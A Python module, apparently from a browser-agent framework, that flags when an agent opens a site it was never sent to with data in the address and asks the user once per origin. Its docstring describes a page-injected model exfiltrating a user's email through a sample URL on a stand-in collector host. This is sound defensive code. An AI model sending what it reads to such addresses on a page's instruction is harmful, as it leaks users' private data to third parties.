"""Egress: the first visit to a site the run was never sent to, with data in its address.

A model that obeys a page exfiltrates by opening an address of another site with what it read in
it (`https://collector.example/c?d=<the user's email>`). No list can name every such site, so the
rule needs none: the origins a run reaches without a question are the one it started on, every
origin a page of the run linked to, and the ones the task names. Any other origin, opened by an
address that carries data (a query, a fragment, credentials, or a path segment that is not a plain
word), is asked about once; the answer holds for the rest of the run.
"""

from __future__ import annotations

import re
from urllib.parse import unquote, urlsplit

from waymark.host.core.origins import origin_of
from waymark.host.core.snapshot import Snapshot

#: A path segment that names a page rather than carrying a value: a short plain word.
_PLAIN_SEGMENT = re.compile(r"[A-Za-z0-9._~-]{0,40}")


def carries_data(url: str) -> bool:
    """Whether the address holds something beyond naming a page: a query, a fragment, credentials
    or a path segment that is not a plain word (an address, a sentence, an encoded value)."""
    try:
        parts = urlsplit(url.strip())
    except ValueError:
        return True
    if parts.query or parts.fragment or parts.username or parts.password:
        return True
    return any(not _PLAIN_SEGMENT.fullmatch(unquote(segment)) for segment in parts.path.split("/"))


class Egress:
    """One run's record of the origins it may reach without asking, and of the user's answers."""

    def __init__(self, task: str) -> None:
        self._task = task.lower()
        self._known: set[str] = set()
        self._answers: dict[str, bool] = {}

    def saw(self, snapshot: Snapshot) -> None:
        """Learn from a page of the run (the first is the one it started on): its own origin and
        every origin its links lead to."""
        urls = [snapshot.url, *(e.href for e in snapshot.elements if e.href)]
        self._known.update(o for o in map(origin_of, urls) if o)

    def _named_by_task(self, origin: str) -> bool:
        host = origin.split("://", 1)[1].split(":", 1)[0]
        return re.search(rf"(?<![\w.-]){re.escape(host)}(?![\w-])", self._task) is not None

    def question(self, url: str) -> str | None:
        """Why opening `url` needs the user's yes, or None when it does not (the run's start, a known,
        linked or named origin, an address with no data in it, or an origin the user already allowed)."""
        origin = origin_of(url)
        if not self._known:
            return None  # the run's first address, before it read any page: where it starts
        if origin is None or origin in self._known or self._answers.get(origin) or self._named_by_task(origin):
            return None
        if not carries_data(url):
            return None
        return (f"opens {origin}, a site this run did not start on, that no page of the run linked to and the task "
                "does not name, with data in its address")

    def refused(self, url: str) -> bool:
        """Whether the user already said no to this URL's origin in this run."""
        origin = origin_of(url)
        return origin is not None and self._answers.get(origin) is False

    def answered(self, url: str, allowed: bool) -> None:
        """Remember the user's answer for the URL's origin for the rest of the run."""
        origin = origin_of(url)
        if origin is not None:
            self._answers[origin] = allowed
